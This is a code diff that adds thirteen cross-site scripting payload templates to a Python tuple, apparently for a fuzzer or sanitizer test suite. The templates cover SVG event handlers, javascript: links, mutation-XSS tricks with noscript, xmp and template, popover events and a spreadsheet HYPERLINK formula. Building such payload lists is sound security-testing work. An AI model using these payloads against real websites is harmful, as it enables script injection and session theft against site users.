@@ -97,5 +97,18 @@ FRAMES = (
     "\\\"}};{}//",
     "`-({})-`",
     "__proto__<img src=x onerror={}>",
+    "<image href=x onerror={}>",
+    "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>",
+    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
+    "<svg><set attributeName=onmouseover to='{}'>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'></svg>",
+    "<marquee onstart={}>",
+    "<isindex type=image src=x onerror={}>",
+    "<template><script>{}</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror={}>'>",
+    "<xmp></xmp><script>{}</script>",
+    "<button popovertarget=x onbeforetoggle={}>x</button><p popover id=x>",
+    "#view?query=<img src=x onerror={}>",
+    "=HYPERLINK('javascript:{}')",
 )  # fmt: skip
 PAYLOADS = [frame.format(*[script] * 3) for frame in FRAMES for script in SCRIPTS]
